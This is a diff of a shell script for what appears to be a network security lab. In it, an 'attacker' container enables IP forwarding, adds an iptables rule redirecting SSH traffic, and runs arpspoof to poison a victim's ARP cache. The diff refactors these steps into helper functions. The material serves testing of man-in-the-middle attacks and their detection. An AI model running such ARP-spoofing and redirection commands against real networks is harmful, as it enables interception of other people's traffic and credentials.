@@ -94,15 +94,9 @@ ssh-keygen -l -E sha256 -f "$k/known_hosts" 2>/dev/null | grep -qF "$srv_fp" ||
 sleep 1
 
 lab_phase attack
-lab_exec attacker sh -c 'echo 1 >/proc/sys/net/ipv4/ip_forward;
-	echo 0 >/proc/sys/net/ipv4/conf/all/send_redirects;
-	echo 0 >/proc/sys/net/ipv4/conf/eth0/send_redirects'
-lab_exec attacker iptables -t nat -A PREROUTING -i eth0 -p tcp -d "$LAB_SRV_IP" --dport 22 \
-	-j REDIRECT --to-ports 22 || die "iptables REDIRECT failed on the attacker"
-lab_bg attacker "$tmp/arpspoof.log" timeout 25 arpspoof -i eth0 -t "$LAB_VICTIM_IP" "$LAB_SRV_IP"
-spoof=$lab_pid
-wait_until 8 eval 'lab_exec victim ip neigh show "$LAB_SRV_IP" | grep -qi "$LAB_ATTACKER_MAC"' ||
-	note "victim ARP cache not poisoned for srv after 8 s"
+lab_forwarding
+lab_redirect tcp "$LAB_SRV_IP" 22 22
+lab_arpspoof "$LAB_SRV_IP" srv
 for _ in 1 2 3; do
 	login -o StrictHostKeyChecking=no || true
 	sleep 0.3
